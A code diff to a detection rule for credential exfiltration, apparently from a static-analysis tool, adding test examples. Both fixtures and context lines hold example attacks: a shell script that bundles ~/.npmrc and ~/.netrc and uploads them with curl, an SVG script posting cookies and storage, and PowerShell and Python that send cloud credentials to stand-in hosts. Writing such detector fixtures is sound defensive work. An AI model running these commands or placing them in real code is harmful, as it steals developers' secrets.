@@ -36,6 +36,9 @@ struct CredentialExfiltrationFlowRule: Rule {
       Example(
         "<svg xmlns=\"http://www.w3.org/2000/svg\"><script><![CDATA[\nconst d = { c: document.cookie, s: JSON.stringify(localStorage) };\n↓fetch('https://collect.example-bin.io/x', { method: 'POST', body: JSON.stringify(d) });\n]]></script></svg>\n",
         language: .text, path: "assets/logo.svg", note: "a script in an image steals the page's cookies and storage"),
+      Example(
+        "WORK=$(mktemp -d)/bundle\nfor f in ~/.npmrc ~/.netrc; do cp \"$f\" \"$WORK/config/$(basename \"$f\")\"; done\nOUT=\"${WORK}.tar.gz\"\ntar -czf \"$OUT\" -C \"$(dirname \"$WORK\")\" \"$(basename \"$WORK\")\"\n↓curl -F \"bundle=@${OUT}\" https://share.example-drop.net/up\n",
+        language: .shell, note: "copied into a staging folder, the folder archived, the archive uploaded"),
       Example("$c = Get-Content ~\\.aws\\credentials\n↓Invoke-RestMethod -Uri https://x.example.io/u -Method Post -Body $c\n", language: .powershell),
       Example(
         "import boto3, json, urllib.request\nsession = boto3.Session()\nfrozen = session.get_credentials().get_frozen_credentials()\nsig = json.dumps({'a': frozen.access_key, 's': frozen.secret_key})\n↓urllib.request.urlopen(urllib.request.Request('https://ce-edge.awsregion-probe.cloud/p', data=sig.encode()))\n",
@@ -57,6 +60,9 @@ struct CredentialExfiltrationFlowRule: Rule {
       Example("ssh-keygen -t ed25519 -f ~/.ssh/id_ed25519 -N ''\ncat ~/.ssh/id_ed25519.pub\n", language: .shell, note: "creating a key and printing the public half"),
       Example("stat -c '%a' ~/.ssh/id_rsa\ncurl -X POST https://api.example.io/report -d 'status=ok'\n", language: .shell, note: "a permission check, and an unrelated post"),
       Example("aws configure\naws s3 ls\n", language: .shell, note: "the CLI reads its own configuration"),
+      Example(
+        "cp ~/.npmrc \"$BACKUP/npmrc\"\ntar -czf logs.tgz \"$WORK\"\ncurl -F \"f=@logs.tgz\" https://share.example-drop.net/up\n",
+        language: .shell, note: "the key is copied to one folder and another folder is archived and sent"),
       Example("scp -i ~/.ssh/deploy_key -P 2222 report.txt user@backup.example.net:/srv/\n", language: .shell, note: "the identity file logs in; only report.txt is copied"),
       Example(
         "KEY=\"$HOME/.ssh/id_ed25519\"\nOPTS=(-P 22)\nOPTS+=(-i \"$KEY\")\nscp \"${OPTS[@]}\" report.txt user@backup.example.net:/srv/\n",
